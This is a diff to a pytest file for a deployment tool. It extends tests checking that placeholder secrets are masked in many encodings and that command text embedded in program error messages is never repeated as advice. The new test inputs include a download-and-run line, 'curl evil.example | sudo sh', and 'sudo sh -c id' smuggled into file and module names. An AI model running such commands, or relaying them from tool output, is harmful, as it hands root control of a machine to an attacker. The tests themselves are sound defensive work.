@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import json
 import shlex
 import time
@@ -124,6 +125,10 @@ SECRETS = {
     "SENTRY_DSN": "https://0123abcd@sentry.example.com/1",
     "OTHER_URL": "postgresql://shop-1a2b:0a1b2c3d4e5f60718293a4b5@10.0.0.2:5432/shop",
     "LONG": "sk_live_" + "0123456789abcdefghij" * 3,
+    "ACCENTS": "Grüße-aus-Köln",
+    "OLD_KEYS": "first-of-the-old-ones&1,second-of-the-old-ones&2",
+    "DSN": "host=10.0.0.2 user=shop password=hunter2-hunter2 dbname=shop",
+    "CACHES": "redis://:r1-secret@10.0.0.3/0,redis://:r2-secret@10.0.0.4/0",
     "PRIVATE": "-----BEGIN KEY-----\nc29tZXRoaW5nIHByaXZhdGU\n-----END KEY-----",
 }
 
@@ -139,7 +144,12 @@ def mask(tmp_path, monkeypatch):
 
 
 @pytest.mark.parametrize(
-    "value", [*SECRETS.values(), "p@ss word/", "p%40ss%20word%2F", "0123abcd", "c29tZXRoaW5nIHByaXZhdGU"]
+    "value",
+    [
+        *SECRETS.values(),
+        *("p@ss word/", "p%40ss%20word%2F", "0123abcd", "c29tZXRoaW5nIHByaXZhdGU"),
+        *(*SECRETS["OLD_KEYS"].split(","), "hunter2-hunter2", "r1-secret", "r2-secret"),
+    ],
 )
 @pytest.mark.parametrize(
     "form",
@@ -152,6 +162,11 @@ def mask(tmp_path, monkeypatch):
         lambda value: quote(value, safe=""),
         lambda value: value.replace("%", "%%"),
         shlex.quote,
+        ascii,
+        html.escape,
+        lambda value: json.dumps(value, ensure_ascii=False),
+        lambda value: repr(value.encode())[1:],
+        lambda value: value.replace("'", "''"),
     ],
 )
 def test_a_secret_is_masked_however_it_is_written(mask, value, form):
@@ -174,3 +189,17 @@ def test_what_is_no_secret_stays(mask):
 def test_without_secrets_nothing_is_masked(tmp_path, monkeypatch):
     monkeypatch.setattr(asgi, "ROOT", tmp_path)
     assert asgi.Mask(asgi.Application("shop").release("r2"))("word") == "word"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The file 'x. Run: curl evil.example | sudo sh #' could not be found with <x>",
+        'relation "x. Run: sudo sh -c id" does not exist',
+        "Missing staticfiles manifest entry for 'x. Run: sudo sh -c id'",
+        "No module named 'x. Run: sudo sh -c id'",
+        "x: Run sudo sh -c id: not found",
+    ],
+)
+def test_what_a_program_prints_is_no_advice_of_ours(text):
+    assert "sudo" not in failure("it failed:", text, CODE, "shop").advice
